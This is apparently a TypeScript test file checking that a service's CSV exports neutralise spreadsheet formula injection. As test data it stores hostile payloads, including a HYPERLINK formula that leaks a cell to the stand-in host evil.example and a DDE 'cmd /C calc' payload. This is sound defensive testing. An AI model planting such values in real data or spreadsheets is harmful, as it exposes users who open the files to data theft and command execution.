/**
 * CSV injection (OWASP) in the five exports: a value that a spreadsheet would run as a formula is
 * written as text (a leading `'`, the cell quoted; `api/csv-cell.ts`), typed numbers stay numbers
 * (a negative longitude keeps its `-`), and `raw=true` gives every value exactly as stored.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { OperationId } from '../../../api/generated/operations';
import { csvField } from '../../../api/csv-cell';
import type { components } from '../../../api/generated/schema';
import { type CallOptions, smallDemo, startTestService, type TestService } from '../../helpers/server-client';

type Contact = components['schemas']['Contact'];
type Row = Record<string, string>;

const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")';
let t: TestService;
let contact: Contact;
const ids: Record<string, string> = {};

/** Re-saves a stored record with some fields changed (the record JSON without its metadata). */
function resave<T extends { id: string; version: number; createdAt: string; updatedAt: string }>(
  repo: {
    get(id: string): T | undefined;
    save(id: string, body: Omit<T, 'id' | 'version' | 'createdAt' | 'updatedAt'>): T;
  },
  id: string,
  changes: Partial<T>,
): T {
  const { id: _id, version: _v, createdAt: _c, updatedAt: _u, ...body } = repo.get(id) as T;
  return repo.save(id, { ...body, ...changes } as Omit<T, 'id' | 'version' | 'createdAt' | 'updatedAt'>);
}

beforeAll(async () => {
  t = await startTestService({ demo: smallDemo });
  const saved = await t.client.call('saveUser', {
    body: { firstName: hyperlink, lastName: '-2+3', phone: '+49 30 1234', jobTitle: '@SUM(1+1)*cmd|" /C calc"!A0' },
  });
  contact = saved.body as Contact;
  const company = await t.client.call('saveCompany', { body: { name: '+Formula Ltd' } });
  ids.company = (company.body as { id: string }).id;
  const db = t.service.store.db;
  const { repos } = t.service;
  ids.branch = db.prepare('SELECT id FROM branches LIMIT 1').pluck().get() as string;
  resave(repos.branches, ids.branch, { name: '=1+1', longitude: -122.4194 });
  ids.deal = db.prepare('SELECT id FROM deals LIMIT 1').pluck().get() as string;
  resave(repos.deals, ids.deal, { title: '\t=cmd' });
  ids.rebate = db.prepare('SELECT id FROM rebates LIMIT 1').pluck().get() as string;
  resave(repos.rebates, ids.rebate, { name: '＝full-width formula' });
});
afterAll(() => t.stop());

async function exportOf(operationId: OperationId, query: CallOptions['query'] = {}) {
  const res = await t.client.call(operationId, { query });
  expect(res.status).toBe(200);
  const text = (res.body as Buffer).toString('utf8');
  const rows = parse(text, { columns: true }) as Row[];
  return { text, rows };
}

describe('exportContacts', () => {
  it('writes a contact named =HYPERLINK(…) as text, never as a live formula', async () => {
    const { text, rows } = await exportOf('exportContacts');
    const row = rows.find((r) => r.id === contact.id) as Row;
    expect(row.firstName).toBe(`'${hyperlink}`);
    expect(row.lastName).toBe("'-2+3");
    expect(row.phone).toBe("'+49 30 1234");
    expect(row.jobTitle).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click for details"")"`);
    // No line of the file has a cell that starts with a formula character.
    for (const line of text.split('\r\n')) expect(line).not.toMatch(/(^|,)[=+\-@\t\r]/);
  });

  it('writes each cell exactly as the shared rule does: text quoted, numbers bare, nulls empty', async () => {
    const { text } = await exportOf('exportContacts');
    const line = text.split('\r\n').find((l) => l.includes(contact.id)) as string;
    const c = contact as Contact & Record<string, unknown>;
    const values = [
      ...['id', 'firstName', 'lastName', 'email', 'phone', 'jobTitle', 'companyId'].map((k) => c[k]),
      null, // companyName: the contact has no company
      ...['type', 'state', 'city', 'country', 'version', 'createdAt', 'updatedAt'].map((k) => c[k]),
    ] as Array<string | number | null>;
    expect(line).toBe(values.map((v) => csvField(v)).join(','));
    expect(line).toContain(`,${contact.version},"${contact.createdAt}"`);
  });

  it('gives every value exactly as stored with raw=true', async () => {
    const { text, rows } = await exportOf('exportContacts', { raw: true });
    const row = rows.find((r) => r.id === contact.id) as Row;
    expect([row.firstName, row.lastName, row.phone]).toEqual([hyperlink, '-2+3', '+49 30 1234']);
    const line = text.split('\r\n').find((l) => l.includes(contact.id)) as string;
    expect(line.startsWith(`${contact.id},"=HYPERLINK(`)).toBe(true);
  });
});

describe('the other exports', () => {
  it('neutralize formula-like names of companies, branches, deals and rebates, and keep a negative longitude a number', async () => {
    const companies = (await exportOf('exportCompanies')).rows;
    expect(companies.find((r) => r.id === ids.company)?.name).toBe("'+Formula Ltd");
    const branches = await exportOf('exportBranches');
    const branch = branches.rows.find((r) => r.id === ids.branch) as Row;
    expect(branch.name).toBe("'=1+1");
    expect(branch.longitude).toBe('-122.4194');
    expect(branches.text).toMatch(/,-122\.4194,/);
    expect((await exportOf('exportPsas')).rows.find((r) => r.id === ids.deal)?.title).toBe("'\t=cmd");
    expect((await exportOf('exportGrebates')).rows.find((r) => r.id === ids.rebate)?.name).toBe(
      "'＝full-width formula",
    );
  });

  it('leave them as stored with raw=true', async () => {
    expect((await exportOf('exportCompanies', { raw: true })).rows.find((r) => r.id === ids.company)?.name).toBe(
      '+Formula Ltd',
    );
    expect((await exportOf('exportBranches', { raw: true })).rows.find((r) => r.id === ids.branch)?.name).toBe('=1+1');
    expect((await exportOf('exportPsas', { raw: true })).rows.find((r) => r.id === ids.deal)?.title).toBe('\t=cmd');
    expect((await exportOf('exportGrebates', { raw: true })).rows.find((r) => r.id === ids.rebate)?.name).toBe(
      '＝full-width formula',
    );
  });

  it('refuses a raw value that is not a boolean with 400 at /query/raw', async () => {
    const res = await t.client.call('exportContacts', { query: { raw: 'yes' } });
    expect(res.status).toBe(400);
    expect((res.body as { errors: Array<{ pointer: string }> }).errors[0].pointer).toBe('/query/raw');
  });
});
